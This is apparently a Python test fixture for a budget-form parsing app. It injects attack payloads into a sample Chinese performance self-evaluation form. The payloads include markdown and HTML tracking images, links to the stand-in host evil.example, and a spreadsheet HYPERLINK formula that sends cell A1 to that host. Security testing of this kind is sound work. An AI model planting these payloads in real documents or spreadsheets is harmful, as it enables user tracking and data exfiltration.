"""Attack payloads in form text, and a text dump that carries them (the seed sample's first form).

Shared by the browser test of the attacks and the page tests that look at what Plotly is handed.
"""

from __future__ import annotations

from tests.conftest import SAMPLES

EVIL = "evil.example"
IMAGE_NAME = f"![t](http://{EVIL}/track.png) -- **粗** :red[红]"
FORMULA_NAME = f'=HYPERLINK("http://{EVIL}/?q="&A1,"点击")'
DEPARTMENT = f'![d](http://{EVIL}/dept.png)<a href="http://{EVIL}/">部门</a>'  # the 总览 charts group by it
UNIT = f"<img src=http://{EVIL}/unit.png>:material/home:"
REASON = f"@SUM(1+1) a -- b [链接](http://{EVIL}/)"


def payload_dump(project_name: str) -> str:
    """The seed's first form with attack payloads in its name, 主管部门, 实施单位 and one reason."""
    seed = (SAMPLES / "000_4b30dd1c6dd4a20d.txt").read_text(encoding="utf-8")
    form = "项目支出绩效自评表" + seed.split("项目支出绩效自评表")[1]
    replaced = (
        form.replace("项目名称 预算准备金 项目金额", f"项目名称 {project_name} 项目金额")
        .replace("主管部门 0402009 实施单位", f"主管部门 {DEPARTMENT} 实施单位 {UNIT}")
        .replace("数量指标 预算准备金工作完成率 100% 0% 10 0", f"数量指标 预算准备金工作完成率 100% 0% 10 0 {REASON}")
    )
    assert all(text in replaced for text in (project_name, DEPARTMENT, UNIT))  # every payload went in
    assert f" {REASON}\n" in replaced
    return replaced
